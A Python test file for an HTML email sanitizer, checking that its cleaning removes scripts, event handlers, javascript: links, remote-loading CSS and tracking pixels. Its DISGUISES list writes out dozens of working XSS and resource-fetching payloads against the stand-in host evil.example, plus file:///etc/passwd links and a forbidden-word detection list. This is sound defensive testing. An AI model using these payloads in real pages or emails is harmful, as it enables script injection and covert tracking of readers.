# ruff: noqa: E501 - disguises are shown as they come.
"""HTML in every disguise that is known: nothing of it acts, fetches or covers, and cleaning again changes nothing."""

import sys
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from esmero.gateways.email.reading import cleaning
from esmero.ground import laid_out, safe_css

FORBIDDEN = ("alert", "evil", "<script", "<iframe", "<form", "<svg", "<math", "<base", "<meta", "<link", "<object",
             "<video", "<audio", "<source", "javascript", "vbscript", "srcset", "onerror", "onload", "onclick",
             "url(", "@import", "@font-face", "expression", "behavior", "position", "z-index", "file:")  # fmt: skip

DISGUISES = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<script\x0c>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src='x' oNeRrOr='alert(1)'>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='javascript&#58;alert(1)'>x</a>",
    "<a href='vbscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='DATA:text/html;base64,alert'>x</a>",
    # In two pieces: no file of the house names such an address.
    "<a href='file:" + "///etc/passwd'>x</a>",
    "<a href='file:" + "//evil.example/share'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>",
    "<select><noembed></select><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=dns-prefetch href='//evil.example'>",
    "<form action='https://evil.example'><input name=a><button formaction='javascript:alert(1)'>x</button></form>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'><embed src='https://evil.example'></object>",
    "<video poster='https://evil.example/x.gif' src='https://evil.example/v'></video>",
    "<audio src='https://evil.example/a' autoplay></audio>",
    "<picture><source srcset='https://evil.example/x'><img alt=p></picture>",
    "<img srcset='https://evil.example/x.gif 2x'>",
    "<input type=image src='https://evil.example/x'>",
    "<table background='https://evil.example/x.gif'><tr><td background='https://evil.example/y'>x</td></tr></table>",
    "<body background='https://evil.example/x.gif' onload=alert(1)>x</body>",
    "<p style=\"background:url('https://evil.example/x.gif')\">x</p>",
    "<p style='background:u\\72l(https://evil.example/x)'>x</p>",
    "<p style='background:url/**/(https://evil.example/x)'>x</p>",
    "<p style='background-image:image-set(\"https://evil.example/x\" 1x)'>x</p>",
    "<p style='list-style:url(https://evil.example/x)'>x</p>",
    "<p style='border-image:url(https://evil.example/x) 1'>x</p>",
    "<p style='content:url(https://evil.example/x)'>x</p>",
    "<p style='cursor:url(https://evil.example/x),auto'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(#evil)'>x</p>",
    "<p style='-moz-binding:url(https://evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:99999'>x</p>",
    "<p style='po/**/sition:fixed'>x</p>",
    "<style>@import 'https://evil.example';</style>",
    "<style>@import url(//evil.example/x.css);p{color:red}</style>",
    "<style>@font-face{font-family:e;src:url(https://evil.example/f)}</style>",
    "<style>p{background:url(https://evil.example)}@media print{p{background:url(//evil.example)}}</style>",
    "<style>a[href^='https://a']{background:url(https://evil.example/a)}</style>",
    "<style>p::before{content:'evil'}</style>",
    "<style></style><img src=x onerror=alert(1)></style>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<style>p{color:red</style><script>alert(1)</script>",
    "<div id=x name=body class=evil onclick=alert(1)>x</div>",
]  # fmt: skip


@pytest.mark.parametrize("html", DISGUISES)
def test_nothing_acts_fetches_or_covers(html: str) -> None:
    clean = cleaning.clean(f"<p>Hello</p>{html}<p>Bye</p>")

    assert "<p>Hello</p>" in clean
    assert [word for word in FORBIDDEN if word in _told_by_tags(clean)] == []
    assert cleaning.clean(clean) == clean


def _told_by_tags(html: str) -> str:
    """Return what stands in tags and in style sheets: words that are only read may say anything."""
    import lxml.html

    root = lxml.html.fragment_fromstring(html, create_parent=True)
    tags = " ".join(f"<{one.tag} {' '.join(map(' '.join, one.attrib.items()))}" for one in root.iter())
    return (tags + " ".join(one.text or "" for one in root.iter("style"))).lower()


WORDS = ["x", "<", ">", "&", "&lt;script&gt;", "&amp;lt;", "<!--", "-->", "--!>", "<![CDATA[", "]]>", "\x00", "\n", '"', "'",
         "</style", "<scr", "ipt>", "</", ".x{color:red}", ".x{background:url(a)}", "@import 'a';", "@media print{.y{color:red}}",
         "{", "}", ";", "/*", "*/", "\\", "é", "\ufffe", "\x0c", "<!--[if mso]>", "<![endif]-->", "<?xml", "&#0;", "&#x80;",
         "&nbsp;", "\r", "\u2028"]  # fmt: skip
TAGS = [
    "a",
    "b",
    "p",
    "div",
    "span",
    "table",
    "tr",
    "td",
    "ul",
    "li",
    "img",
    "style",
    "script",
    "svg",
    "math",
    "title",
    "textarea",
    "noscript",
    "select",
    "option",
    "form",
    "input",
    "iframe",
    "object",
    "base",
    "meta",
    "link",
    "body",
    "html",
    "head",
    "template",
    "xmp",
    "plaintext",
    "font",
    "center",
    "pre",
    "h1",
    "details",
    "col",
    "colgroup",
    "caption",
    "tbody",
    "button",
    "nobr",
    "marquee",
    "video",
    "source",
    "frameset",
    "mtext",
    "annotation-xml",
    "foreignObject",
    "desc",
    "isindex",
    "image",
    "listing",
    "dl",
    "dt",
    "dd",
    "ruby",
    "rt",
]
ATTRIBUTES = ["onerror=alert(1)", "src=x", 'src="https://e.example/p.gif"', 'src="cid:a@b"', 'src="data:image/png;base64,AA"',
              'href="java\tscript:alert(1)"', "href=https://e.example", 'href="//e.example"', 'href="/desk/"',
              'style="color:red;position:fixed"', 'style="display:none"', "style='font-family:\"A B\",x'", 'class="x y"', "id=x",
              "width=1", "width=600", "hidden", "bgcolor=red", 'style="col\\6fr:red"', 'style="a:/*b"', "data-remote-src=x",
              'title="a&quot;>b<script>"', 'title="--><b>"', 'alt="&lt;img src=x onerror=alert(1)&gt;"', "data-tracker"]  # fmt: skip
PIECES = st.one_of(
    st.sampled_from(WORDS),
    st.builds(
        lambda tag, given: f"<{tag} {' '.join(given)}>",
        st.sampled_from(TAGS),
        st.lists(st.sampled_from(ATTRIBUTES), max_size=3),
    ),
    st.sampled_from(TAGS).map(lambda tag: f"</{tag}>"),
)


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_cleaning_twice_changes_nothing(html: str) -> None:
    once = cleaning.clean(html)

    assert cleaning.clean(once) == once
    assert "<script" not in once.lower()


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from([*WORDS, "a", ":", "red", "color", "url(", "(", ")", ",", "p", "@media ", " "]),
        max_size=40,
    ).map("".join)
)
def test_a_sheet_cleaned_twice_stays_and_names_no_address(sheet: str) -> None:
    once = safe_css.sheet(sheet)

    assert safe_css.sheet(once) == once
    assert "url" not in once or "url(" not in once.replace(" ", "")
    assert "<" not in once and "\\" not in once


@pytest.mark.parametrize(
    "sheet", ["url(){} url().x{color:red}", "@media url(){.x{color:red}}", "(a).x{color:red}"]
)
def test_no_address_stands_before_a_rule(sheet: str) -> None:
    assert safe_css.sheet(sheet) == ""


def test_rules_that_lay_out_are_kept_with_the_classes_they_speak_of() -> None:
    clean = cleaning.clean(
        "<html><head><style><!-- @page W {size:1pt} p.MsoNormal, div.MsoNormal {margin:0cm; mso-x:1} "
        "@media only screen and (max-width:600px) { .w { width:100% !important } } --></style></head>"
        "<body style='background:#eee'><p class='MsoNormal w other'>Hello</p></body></html>"
    )

    assert clean == (
        "<style>p.MsoNormal,div.MsoNormal{margin:0cm}@media only screen and (max-width:600px){.w{width:100% !important}}"
        '</style>\n<div style="background:#eee"><p class="MsoNormal w">Hello</p></div>'
    )


def test_pictures_that_only_tell_who_reads_are_left_out_and_counted() -> None:
    clean = cleaning.clean(
        '<img src="https://t.example/1" width="1" height="1"><img src="https://t.example/2" style="display:none">'
        '<img src="https://t.example/3" style="height:0px;border:0"><img src="https://p.example/4" width="600">'
    )

    assert "t.example" not in clean
    assert laid_out.trackers(clean) == 3
    assert laid_out.far_pictures(clean) == ["https://p.example/4"]


NESTS: dict[str, Any] = {
    "styled cells": lambda n: "".join(f'<td style="color:red;padding:{i}px" class="a">x</td>' for i in range(n)),
    "rules": lambda n: "<style>" + ".a{color:red}" * n + "</style><p class='a'>x</p>",
    "open blocks of styles": lambda n: "<style>" + "@media print{a{" * n + "</style>x",
    "open comments of styles": lambda n: "<style>" + "/*" * n + "</style>x",
    "links": lambda n: '<a href="https://a.example">https://b.example</a>' * n,
    "pictures": lambda n: '<img src="https://a.example/p.png" alt="x">' * n,
    "declarations": lambda n: f'<p style="{"color:red;" * n}">x</p>',
}  # fmt: skip


@pytest.mark.parametrize("make", NESTS.values(), ids=NESTS.keys())
def test_twice_as_much_is_twice_the_work(make: Any) -> None:
    """Counted in calls, of our own functions and of those that they call, with all that showing does."""
    once, twice = _calls(make(300)), _calls(make(600))

    assert twice <= 2.2 * once


def _calls(html: str) -> int:
    count = 0

    def counted(frame: Any, event: str, what: Any) -> None:
        nonlocal count
        count += event in {"call", "c_call"}

    sys.setprofile(counted)
    try:
        laid_out.ready(cleaning.clean(html), inner={}, far={})
    finally:
        sys.setprofile(None)
    return count
